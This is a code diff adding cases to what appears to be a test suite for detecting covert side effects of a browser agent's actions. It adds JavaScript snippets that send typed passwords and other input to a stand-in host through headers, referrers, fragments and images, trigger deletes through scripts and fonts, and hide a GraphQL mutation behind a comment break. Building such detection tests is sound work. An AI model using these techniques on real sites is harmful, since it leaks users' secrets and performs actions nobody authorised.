@@ -54,6 +54,7 @@ FOCUSED = f'<button {AT} autofocus onclick="{POST}">Go</button>'
 TYPED = "oninput=\"fetch('/effect/typed')\""
 CARD = "4111 1111 1111 1111"
 MAIL = "ann@example.org"
+SAYS = (Write("my own words", 100, 90), Click(100, 30))
 
 
 GESTURES = [
@@ -86,6 +87,14 @@ GESTURES = [
     Way("opening details", f'<details {AT} ontoggle="{POST}"><summary>more</summary>x</details>', (Click(20, 10),)),
     Way("editable text", f'<div contenteditable {IN} onkeydown="event.key==\'Enter\'&&{POST}">x</div>',
         (Click(100, 90), PressKeys(("Enter",)))),
+    Way("two keys at once", f'<input type=password {IN} {TYPED}>', (Click(100, 90), PressKeys(("h", "u")))),
+    Way("a key by its place", f'<input type=password {IN} {TYPED}>', (Click(100, 90), PressKeys(("KeyH",)))),
+    Way("a key of the number pad", f'<input autocomplete=cc-csc {IN} {TYPED}>', (Click(100, 90), PressKeys(("Shift", "Numpad4")))),
+    Way("a key beside one that writes nothing", f'<input type=password {IN} {TYPED}>', (Click(100, 90), PressKeys(("AltGraph",)), PressKeys(("F9", "h")))),
+    Way("pasting a password with keys by their places", f'<input {IN} value=abcdef><input type=password {AT} {TYPED}>',
+        (Click(100, 90), PressKeys(("Control", "a")), PressKeys(("Control", "c")), Click(100, 30), PressKeys(("ControlLeft", "KeyV")))),
+    Way("pasting a password before another key", f'<input {IN} value=abcdef><input type=password {AT} {TYPED}>',
+        (Click(100, 90), PressKeys(("Control", "a")), PressKeys(("Control", "c")), Click(100, 30), PressKeys(("Control", "v", "b")))),
     Way("pasting", f'<input {IN} value=abcdef><textarea {AT} onpaste="{POST}"></textarea>',
         (Click(100, 90), PressKeys(("Control", "a")), PressKeys(("Control", "c")), Click(100, 30), PressKeys(("Control", "v")))),
 ]  # fmt: skip
@@ -157,6 +166,9 @@ CHANNELS = [
     Way("a request from a clean frame", button("f=document.createElement('iframe');document.body.append(f);"
         "f.contentWindow.fetch('HERE/order',{method:'POST'})")),
     Way("a query with more beside it", button("fetch('/api',{method:'POST',body:JSON.stringify({query:'{ x }',action:'buy'})})")),
+    Way("a mutation behind a comment that has ended", button("fetch('/graphql',{method:'POST',body:JSON.stringify({query:"
+        "'query A { a } #\\rmutation B { buy }',operationName:'B'})})")),
+    Way("a query with a mutation in the address", button("fetch('/graphql?query=mutation{buy}',{method:'POST',body:JSON.stringify({query:'{ a }'})})")),
     Way("a mutation in an address", button("fetch('/effect/graphql?query=mutation{buy}')")),
     Way("a worker from a text that is gone", button("w.postMessage(1)") + "<script>u=URL.createObjectURL(new Blob([\"onmessage="
         "()=>fetch('HERE/order',{method:'POST'})\"]));w=new Worker(u);URL.revokeObjectURL(u)</script>"),
@@ -226,10 +238,30 @@ ADDRESSES = [
     Way("the agent itself tells who, in a tab", "x", (NewTab(f"HERE/effect/{MAIL}"),)),
     Way("the agent itself tells in a code", "x", (Goto("THERE/effect#d=QW5uIE1pbGxlciwgMTIgSGlnaCBTdHJlZXQ"),)),
     Way("a picture that deletes", button("new Image().src='/effect/delete?id=7'")),
+    Way("a script that deletes", button("s=document.createElement('script');s.src='/effect/delete?id=7';document.head.append(s)")),
+    Way("a module that deletes", button("import('/effect/delete?id=7')")),
+    Way("a style that deletes", button("l=document.createElement('link');l.rel='stylesheet';l.href='/effect/delete?id=7';document.head.append(l)")),
+    Way("a film that deletes", button("v=document.createElement('video');v.src='/effect/delete?id=7';document.body.append(v)")),
+    Way("a worklet that deletes", button("CSS.paintWorklet.addModule('/effect/delete?id=7')")),
+    Way("a font that deletes", button("new FontFace('x','url(/effect/delete?id=7)').load().catch(()=>0)")),
+    Way("only the head of what deletes", button("fetch('/effect/delete?id=7',{method:'HEAD'})")),
     Way("a method in a header", button("x=new XMLHttpRequest;x.open('GET','/effect/it');x.setRequestHeader('X-HTTP-Method-Override','DELETE');x.send()")),
     Way("a script that likes", button("fetch('/effect/like?id=7')")),
     Way("a picture that carries what was typed", f"<input {IN} onchange=\"new Image().src='THERE/effect?d='+this.value\">",
         (Write("my own words", 100, 90), Click(300, 200))),
+    Way("a head that carries what was typed", f"<input id=i {IN}>" + button("fetch('THERE/effect?d='+i.value,{method:'HEAD',mode:'no-cors'})"), SAYS),
+    Way("a question about methods that carries what was typed", f"<input id=i {IN}>" + button("fetch('THERE/effect?methods='+i.value,{method:'OPTIONS'})"), SAYS),
+    Way("the browser's own question that carries what was typed", f"<input id=i {IN}>" + button("fetch('THERE/effect?first='+i.value,"
+        "{method:'POST',headers:{'Content-Type':'application/json'},body:'1'})"), SAYS),
+    Way("what the next page reads behind its address", f"<input id=i {IN}>" + button("location='THERE/effect#'+i.value"), SAYS),
+    Way("the same in a frame", f"<input id=i {IN}>" + button("f=document.createElement('iframe');f.src='THERE/effect#'+btoa(i.value);"
+        "document.body.append(f)"), SAYS),
+    Way("a header that carries what was typed", f"<input id=i {IN}>" + button("fetch('THERE/effect',{headers:{'X-A':i.value}})"), SAYS),
+    Way("a header that every request has", f"<input id=i {IN}>" + button("fetch('THERE/effect',{mode:'no-cors',headers:{Accept:i.value}})"), SAYS),
+    Way("where it came from", f"<input id=i {IN}>" + button("history.replaceState(0,'','/?d='+encodeURIComponent(i.value));"
+        "fetch('THERE/effect',{mode:'no-cors',referrerPolicy:'unsafe-url'})"), SAYS),
+    Way("a code behind sixty others", f"<input id=i {IN}>" + button("a='THERE/effect?';for(n=0;n<60;n++)a+='abcdefgh'+n+'&';"
+        "new Image().src=a+btoa(i.value)"), SAYS),
     Way("an address that carries what was typed", f"<input {IN} id=i>" + button("location='THERE/effect?d='+btoa(i.value)"),
         (Write("my own words", 100, 90), Click(100, 30))),
     Way("a form to another site", f"<form action=THERE/effect><input name=note {IN}></form>",
@@ -288,6 +320,8 @@ HABITS = [
         + button("history.pushState(0,'','/?x');setTimeout(()=>rpc(JSON.stringify({op:'buy'})),200)"), (Click(100, 30), Wait(0.5))),
     Way("on the next page", STATED + f"<script>rpc(JSON.stringify({{op:'look'}}))</script><a href=/next {AT}>next</a>",
         pages={"/next": STATED + "<script>rpc(JSON.stringify({op:'buy'}))</script>"}),
+    Way("in a header", "<script>rpc=(what)=>fetch('/rpc',{method:'POST',body:'{}',headers:{'X-Target':what}});rpc('Items.look')</script>"
+        + button("rpc('Items.buy')")),
     Way("in a code", STATED + "<script>rpc(btoa('{op:look,at:9}'))</script>" + button("rpc(btoa('{op:buy,item:3}'))")),
     Way("a draft", STATED + f"<textarea {IN} id=i></textarea><script>rpc(JSON.stringify({{text:i.value}}))</script>"
         + button("rpc(JSON.stringify({text:i.value}))"), (Write("order2026number5", 100, 90), Click(100, 30))),
